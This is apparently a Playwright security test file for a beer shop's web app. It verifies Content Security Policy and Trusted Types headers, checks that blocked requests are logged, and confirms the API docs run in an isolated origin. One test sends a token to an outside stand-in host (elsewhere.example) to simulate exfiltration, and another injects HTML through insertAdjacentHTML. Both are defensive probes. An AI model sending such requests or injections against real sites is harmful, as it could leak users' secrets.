import type { Page } from '@playwright/test'
import { expect, test } from '../support/shops/shop-fixture.ts'

test.use({ serviceWorkers: 'allow' })

/** What the browser says of policies, from before the first script on. */
function watchPolicies(page: Page): string[] {
  const said: string[] = []
  page.on('console', (message) => {
    if (/content security policy|trusted ?type|resource-policy|sandbox/i.test(message.text()))
      said.push(message.text())
  })
  page.on('pageerror', (error) => said.push(String(error)))
  return said
}

const mainPages = [
  '/',
  '/shop?style=ipa',
  '/breweries',
  '/groups/forth-crossing',
  '/accessories',
  '/cart',
  '/checkout',
  '/quick-order',
  '/wishlist',
  '/support',
  '/newsletter',
  '/keg-kong',
  '/account/sign-in',
  '/no-such-page',
]

test('no page does what its policy stops, Trusted Types included, by a document or by a click (security polish)', async ({
  page,
}) => {
  test.slow()
  const said = watchPolicies(page)
  for (const path of mainPages) {
    const answer = await page.goto(path)
    expect(answer?.headers()['content-security-policy'], path).toContain("require-trusted-types-for 'script'")
    await page.waitForLoadState('networkidle')
  }
  await page.goto('/')
  for (const name of ['/shop', '/breweries', '/support']) {
    await page
      .locator(`a[href="${name}"]`)
      .first()
      .evaluate((link: HTMLAnchorElement) => link.click())
    await page.waitForURL((url) => url.pathname === name)
    await expect(page.getByRole('contentinfo')).toBeVisible()
  }
  const worker = await page.evaluate(async () => (await navigator.serviceWorker.ready).active?.scriptURL)
  expect(worker).toContain('/service-worker.js')
  expect(said).toEqual([])
})

test('a text cannot become HTML in a page (security polish)', async ({ page }) => {
  await page.goto('/support')
  const thrown = await page.evaluate(() => {
    try {
      document.body.insertAdjacentHTML('beforeend', '<img src="x">')
      return 'nothing'
    } catch (error) {
      return (error as Error).name
    }
  })
  expect(thrown).toBe('TypeError')
})

test('what a policy stops is in the shop’s log (security polish)', async ({ page, shopProcess }) => {
  await page.goto('/support')
  await page.evaluate(() => fetch('https://elsewhere.example/x?token=secret').catch(() => {}))
  await expect.poll(() => shopProcess.log()).toContain('"blocked":"https://elsewhere.example"')
  expect(shopProcess.log()).not.toContain('token=secret')
})

test('the API reference works in an origin of its own, out of reach of the shop’s storage (PLAT-06, security 10)', async ({
  page,
  shop,
}) => {
  test.slow()
  await page.goto('/')
  await page.evaluate(() => localStorage.setItem('dray-auth-state', 'a secret'))
  const elsewhere: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(shop) && !/^(data|blob):/.test(request.url())) elsewhere.push(request.url())
  })
  const said = watchPolicies(page)
  await page.goto('/docs/api')
  await expect(page.getByRole('heading', { name: 'Dray', level: 1 })).toBeVisible({ timeout: 60_000 })
  await page.getByRole('link', { name: 'Support', exact: true }).click()
  await expect(page.getByText('Sends a message to support').first()).toBeVisible()
  const storage = await page.evaluate(() => localStorage.getItem('dray-auth-state'))
  expect(storage).toBeNull()
  expect(await page.evaluate(() => origin)).toBe('null')
  expect(elsewhere).toEqual([])
  expect(said).toEqual([])
})
